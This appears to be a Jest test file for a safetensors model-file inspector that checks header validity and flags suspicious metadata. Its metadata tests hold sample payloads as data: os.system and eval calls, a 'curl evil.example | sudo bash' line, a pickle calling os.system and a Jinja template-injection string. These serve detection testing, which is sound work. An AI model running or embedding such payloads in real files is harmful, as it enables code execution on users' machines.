import { describe, expect, it } from '@jest/globals'
import { bufferAccess, type RandomAccess } from '../../src/engine/access.js'
import {
  duplicateKeys,
  inspectSafetensors,
  looksLikeSafetensors,
  type SafetensorsResult
} from '../../src/engine/formats/safetensors.js'
import { codes, damagedCopies, prng } from '../helpers/fuzz.js'

// ---- building files byte by byte ----

/** u64 LE header length, the header text as given, then the data buffer. */
function file(header: object | string, data: Buffer | number = 0): Buffer {
  const h = Buffer.from(typeof header === 'string' ? header : JSON.stringify(header), 'utf8')
  const len = Buffer.alloc(8)
  len.writeBigUInt64LE(BigInt(h.length))
  return Buffer.concat([len, h, typeof data === 'number' ? Buffer.alloc(data, 0x11) : data])
}

const VALID_HEADER = {
  __metadata__: { format: 'pt' },
  a: { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] },
  b: { dtype: 'BF16', shape: [4], data_offsets: [16, 24] },
  c: { dtype: 'U8', shape: [], data_offsets: [24, 25] }
}
const VALID = file(VALID_HEADER, 25)

async function inspect(buf: Buffer): Promise<SafetensorsResult> {
  return inspectSafetensors(bufferAccess(buf))
}

describe('inspectSafetensors: valid files', () => {
  it('reports no problems for a well-formed file and returns counts and metadata', async () => {
    const r = await inspect(VALID)
    expect(r.problems).toEqual([])
    expect(r.tensorCount).toBe(3)
    expect(r.dataBytes).toBe(25)
    expect(r.headerBytes).toBe(VALID.length - 8 - 25)
    expect(r.metadata).toEqual({ format: 'pt' })
    expect(r.suspiciousMetadata).toEqual([])
    expect(r.unknownDtypes).toEqual([])
  })

  it('accepts the space padding the reference writer adds after the JSON, and entries in any order', async () => {
    const json = JSON.stringify({
      b: { dtype: 'I64', shape: [1], data_offsets: [8, 16] },
      a: { dtype: 'F64', shape: [1], data_offsets: [0, 8] }
    })
    const r = await inspect(file(json + '     ', 16))
    expect(r.problems).toEqual([])
  })

  it('accepts a file with metadata only, and null metadata', async () => {
    expect((await inspect(file({ __metadata__: { a: 'b' } }))).problems).toEqual([])
    expect((await inspect(file({ __metadata__: null }))).problems).toEqual([])
    expect((await inspect(file({}))).problems).toEqual([])
  })

  it('knows the sizes of the newer dtypes, including sub-byte ones', async () => {
    const r = await inspect(
      file(
        {
          f4: { dtype: 'F4', shape: [4], data_offsets: [0, 2] },
          f6: { dtype: 'F6_E2M3', shape: [4], data_offsets: [2, 5] },
          e8: { dtype: 'F8_E8M0', shape: [3], data_offsets: [5, 8] },
          c64: { dtype: 'C64', shape: [1], data_offsets: [8, 16] },
          z: { dtype: 'F16', shape: [0, 5], data_offsets: [16, 16] }
        },
        16
      )
    )
    expect(r.problems).toEqual([])
  })

  it('lists unknown dtypes without failing, still checking their byte ranges', async () => {
    const ok = await inspect(file({ x: { dtype: 'F2_FUTURE', shape: [3], data_offsets: [0, 7] } }, 7))
    expect(ok.problems).toEqual([])
    expect(ok.unknownDtypes).toEqual(['F2_FUTURE'])
    const out = await inspect(file({ x: { dtype: 'F2_FUTURE', shape: [3], data_offsets: [0, 9] } }, 7))
    expect(codes(out)).toContain('OFFSET_OUT_OF_RANGE')
  })
})

describe('inspectSafetensors: problems', () => {
  it('TRUNCATED when fewer than 8 bytes, or when the header runs past the file', async () => {
    expect(codes(await inspect(Buffer.from([1, 2, 3])))).toEqual(['TRUNCATED'])
    expect(codes(await inspect(VALID.subarray(0, 20)))).toEqual(['TRUNCATED'])
  })

  it('TRUNCATED without asking storage for a header longer than the file', async () => {
    const head = Buffer.alloc(100, 0x20)
    head.writeBigUInt64LE(50_000_000n)
    head[8] = 0x7b
    let requested = 0
    const ra: RandomAccess = {
      size: head.length,
      read: async (o, l) => {
        requested += l
        return head.subarray(o, o + l)
      }
    }
    expect(codes(await inspectSafetensors(ra))).toEqual(['TRUNCATED'])
    expect(requested).toBeLessThan(1024)
  })

  it('TRUNCATED when the storage returns fewer header bytes than its size promised', async () => {
    const ra: RandomAccess = {
      size: VALID.length,
      read: async (o, l) => VALID.subarray(o, Math.min(o + l, 30))
    }
    expect(codes(await inspectSafetensors(ra))).toEqual(['TRUNCATED'])
  })

  it('HEADER_TOO_LARGE over the 100 MB reference limit (checked before the file size), or a lower limit', async () => {
    const huge = Buffer.alloc(16)
    huge.writeBigUInt64LE(100_000_001n)
    huge[8] = 0x7b
    expect(codes(await inspect(huge))).toEqual(['HEADER_TOO_LARGE'])
    const r = await inspectSafetensors(bufferAccess(VALID), { maxHeaderBytes: 10 })
    expect(codes(r)).toEqual(['HEADER_TOO_LARGE'])
  })

  it("BAD_HEADER_START unless the header starts with '{' (no leading space, no array, not empty)", async () => {
    expect(codes(await inspect(file(' {}')))).toEqual(['BAD_HEADER_START'])
    expect(codes(await inspect(file('[]')))).toEqual(['BAD_HEADER_START'])
    expect(codes(await inspect(file('')))).toEqual(['BAD_HEADER_START'])
  })

  it('BAD_UTF8 for a header that is not UTF-8', async () => {
    const h = Buffer.from('{"a\xff":1}', 'latin1')
    const len = Buffer.alloc(8)
    len.writeBigUInt64LE(BigInt(h.length))
    expect(codes(await inspect(Buffer.concat([len, h])))).toEqual(['BAD_UTF8'])
  })

  it('BAD_JSON for invalid JSON', async () => {
    expect(codes(await inspect(file('{"a": ')))).toEqual(['BAD_JSON'])
    expect(codes(await inspect(file('{} {}')))).toEqual(['BAD_JSON'])
  })

  it('BAD_TENSOR for malformed entries', async () => {
    const bad = [
      7,
      { dtype: 'F32', shape: [-1], data_offsets: [0, 4] },
      { dtype: 'F32', shape: [1.5], data_offsets: [0, 4] },
      { dtype: 'F32', shape: '1', data_offsets: [0, 4] },
      { dtype: 'F32', shape: [1], data_offsets: [0, 4, 8] },
      { dtype: 'F32', shape: [1], data_offsets: [4, 0] },
      { dtype: 'F32', shape: [1], data_offsets: [0, 2 ** 60] },
      { dtype: 'F32', shape: [1] }
    ]
    for (const entry of bad) {
      expect(codes(await inspect(file({ t: entry }, 4)))).toContain('BAD_TENSOR')
    }
  })

  it('BAD_DTYPE when dtype is not a string', async () => {
    const r = await inspect(file({ t: { dtype: 4, shape: [1], data_offsets: [0, 4] } }, 4))
    expect(codes(r)).toContain('BAD_DTYPE')
  })

  it('SIZE_MISMATCH when the byte span disagrees with shape × dtype, or sub-byte elements leave a partial byte', async () => {
    const wrong = await inspect(file({ t: { dtype: 'F32', shape: [2, 2], data_offsets: [0, 12] } }, 12))
    expect(codes(wrong)).toEqual(['SIZE_MISMATCH'])
    // 3 × 4 bits: 1.5 bytes, which neither 1 nor 2 bytes holds exactly
    const partial = await inspect(file({ t: { dtype: 'F4', shape: [3], data_offsets: [0, 1] } }, 1))
    expect(codes(partial)).toEqual(['SIZE_MISMATCH'])
  })

  it('OFFSET_OUT_OF_RANGE when a tensor ends past the data buffer', async () => {
    const r = await inspect(file({ t: { dtype: 'U8', shape: [8], data_offsets: [0, 8] } }, 4))
    expect(codes(r)).toEqual(['OFFSET_OUT_OF_RANGE'])
  })

  it('OVERLAP when two tensors claim the same bytes', async () => {
    const r = await inspect(
      file(
        {
          a: { dtype: 'U8', shape: [8], data_offsets: [0, 8] },
          b: { dtype: 'U8', shape: [8], data_offsets: [4, 12] }
        },
        12
      )
    )
    expect(codes(r)).toEqual(['OVERLAP'])
  })

  it('INCOMPLETE_BUFFER for a gap between tensors and for trailing bytes no tensor covers', async () => {
    const gap = await inspect(
      file(
        {
          a: { dtype: 'U8', shape: [4], data_offsets: [0, 4] },
          b: { dtype: 'U8', shape: [4], data_offsets: [8, 12] }
        },
        12
      )
    )
    expect(codes(gap)).toEqual(['INCOMPLETE_BUFFER'])
    const tail = await inspect(Buffer.concat([VALID, Buffer.from('PK\x03\x04 payload')]))
    expect(codes(tail)).toEqual(['INCOMPLETE_BUFFER'])
    const nothing = await inspect(file({}, 10))
    expect(codes(nothing)).toEqual(['INCOMPLETE_BUFFER'])
  })

  it('DUPLICATE_KEY when a tensor or metadata key appears twice (readers disagree on which wins)', async () => {
    const t =
      '{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
    expect(codes(await inspect(file(t, 1)))).toEqual(['DUPLICATE_KEY'])
    const m = '{"__metadata__":{"k":"1","k":"2"}}'
    expect(codes(await inspect(file(m)))).toEqual(['DUPLICATE_KEY'])
  })

  it('duplicateKeys tells keys from values and nested objects apart', () => {
    expect(duplicateKeys('{"a":"a","b":{"a":1},"c":["a","a"],"d":"\\"a"}', 10)).toEqual([])
    expect(duplicateKeys('{"x":{"a":1,"a":2},"y":{"b":1},"y":2}', 10)).toEqual(['a', 'y'])
  })

  it('BAD_METADATA when __metadata__ is not an object of strings', async () => {
    expect(codes(await inspect(file({ __metadata__: ['a'] })))).toEqual(['BAD_METADATA'])
    expect(codes(await inspect(file({ __metadata__: 'a' })))).toEqual(['BAD_METADATA'])
    expect(codes(await inspect(file({ __metadata__: { a: 1 } })))).toEqual(['BAD_METADATA'])
  })

  it('lists at most 100 problems and says how many more there were', async () => {
    const header: Record<string, unknown> = {}
    for (let i = 0; i < 300; i++) header[`t${i}`] = { dtype: 'F32', shape: [1], data_offsets: [0, 3] }
    const r = await inspect(file(header, 3))
    expect(r.problems).toHaveLength(101)
    expect(r.problems[100]?.code).toBe('LIMIT')
  })
})

describe('inspectSafetensors: metadata', () => {
  it('returns values cut to 64 KiB and keeps a __proto__ key as data', async () => {
    const long = 'x'.repeat(70 * 1024)
    const r = await inspect(file(`{"__metadata__":{"__proto__":"p","long":"${long}"}}`))
    expect(r.problems).toEqual([])
    expect(r.metadata.long).toHaveLength(64 * 1024)
    expect(r.metadataTruncated).toBe(true)
    expect(Object.getPrototypeOf(r.metadata)).toBe(Object.prototype)
    expect(Object.getOwnPropertyDescriptor(r.metadata, '__proto__')?.value).toBe('p')
  })

  it('names the code it finds, with the text that holds it', async () => {
    const values: Record<string, string> = {
      a: "__import__('os').system('id')",
      b: 'import os; os.system("id")',
      c: 'eval(x)',
      e: 'then subprocess.run(["id"])',
      f: '<SCRIPT>alert(1)</script>',
      g: 'curl -s https://evil.example/x.sh | sudo bash',
      plain: 'a model card description, nothing else'
    }
    const r = await inspect(file({ __metadata__: values }))
    expect(r.problems).toEqual([])
    const keys = new Set(r.suspiciousMetadata.map((s) => s.key))
    expect([...keys].sort()).toEqual(['a', 'b', 'c', 'e', 'f', 'g'])
    const reasons = (key: string) => r.suspiciousMetadata.filter((s) => s.key === key).map((s) => s.reason)
    expect(reasons('a')).toContain(`holds a call of __import__('os') ("__import__('os').system('id')")`)
    expect(reasons('b')).toContain(`holds a call of os.system ("import os; os.system(\\"id\\")")`)
    expect(reasons('b')).toContain(`holds Python code importing os ("import os; os.system(\\"id\\")")`)
    expect(reasons('c')).toEqual([`holds a call of eval ("eval(x)")`])
    expect(reasons('e')[0]).toMatch(/^holds subprocess\.run /)
    expect(reasons('f')[0]).toMatch(/^holds an HTML script element /)
    expect(reasons('g')[0]).toMatch(/^holds a shell command piping a download \(curl\) into bash /)
  })

  it('passes prose: the words import, eval, exec and subprocess, links, licences, a method call', async () => {
    const values: Record<string, string> = {
      description:
        'We import the weights from the original checkpoint; see https://example.com/paper. The eval (held-out) set and exec (x) timing are in the card.',
      license: 'https://www.apache.org/licenses/LICENSE-2.0',
      url: 'http://example.com',
      usage: 'model.eval() before inference; subprocess management is up to you; import torch',
      note: 'import os',
      hash: 'gAJ9cQBYAwAAAGZvb3EBWAMAAABiYXJxAnMu'.replace('gAJ', 'gAX')
    }
    const r = await inspect(file({ __metadata__: values }))
    expect(r.suspiciousMetadata).toEqual([])
  })

  it('finds a pickle stored in metadata, raw, base64 or hex, and names its imports', async () => {
    const pickle = Buffer.from('\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.', 'latin1')
    const r = await inspect(
      file({
        __metadata__: {
          b64: pickle.toString('base64'),
          hex: pickle.toString('hex'),
          raw: pickle.toString('latin1'),
          inside: `state=${pickle.toString('base64')};`
        }
      })
    )
    for (const [key, encoding] of [
      ['b64', 'base64'],
      ['hex', 'hex'],
      ['raw', 'raw'],
      ['inside', 'base64']
    ] as const) {
      expect(r.suspiciousMetadata.find((s) => s.key === key)?.reason).toMatch(
        new RegExp(`^holds an embedded pickle \\(${encoding}\\) importing os\\.system `)
      )
    }
  })

  it('reports a Jinja template in metadata only when rendering it would reach Python objects', async () => {
    const r = await inspect(
      file({
        __metadata__: {
          ssti: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
          benign: '{% for m in messages %}{{ m.content }}{% endfor %}',
          prose: 'braces {% in prose %} that Jinja cannot parse'
        }
      })
    )
    expect(r.suspiciousMetadata.map((s) => s.key)).toEqual(['ssti'])
    expect(r.suspiciousMetadata[0]!.reason).toMatch(/^holds a Jinja template that can run code when rendered/)
  })
})

describe('looksLikeSafetensors', () => {
  it('needs a header length that fits the file and an opening brace at byte 8', () => {
    expect(looksLikeSafetensors(VALID.subarray(0, 16), VALID.length)).toBe(true)
    expect(looksLikeSafetensors(VALID.subarray(0, 16), 20)).toBe(false)
    const noBrace = Buffer.from(VALID.subarray(0, 16))
    noBrace[8] = 0x5b
    expect(looksLikeSafetensors(noBrace, VALID.length)).toBe(false)
    expect(looksLikeSafetensors(VALID.subarray(0, 8), VALID.length)).toBe(false)
    expect(looksLikeSafetensors(Buffer.from('PK\x03\x04\x00\x00\x00\x00{'), 1000)).toBe(false)
  })
})

describe('inspectSafetensors: cost', () => {
  it('reads only the header of a file whose tensors claim 10 GiB', async () => {
    const GiB = 1024 ** 3
    const header: Record<string, unknown> = { __metadata__: { format: 'pt' } }
    for (let i = 0; i < 10; i++) {
      header[`layer.${i}.weight`] = {
        dtype: 'U8',
        shape: [1024, 1024, 1024],
        data_offsets: [i * GiB, (i + 1) * GiB]
      }
    }
    const head = file(header)
    let requested = 0
    const ra: RandomAccess = {
      size: head.length + 10 * GiB,
      read: async (offset, length) => {
        requested += length
        if (offset + length > head.length) throw new Error('read into tensor data')
        return head.subarray(offset, offset + length)
      }
    }
    const r = await inspectSafetensors(ra)
    expect(r.problems).toEqual([])
    expect(r.dataBytes).toBe(10 * GiB)
    expect(requested).toBeLessThan(1024 * 1024)
  })
})

describe('inspectSafetensors: fuzz', () => {
  it('resolves or rejects with an Error on 500 truncations and byte flips; a truncated file always has problems', async () => {
    const rand = prng(0x5afe)
    expect(await damagedCopies(VALID, 500, rand, inspect)).toEqual({ nonErrors: [], silent: [] })
  })
})
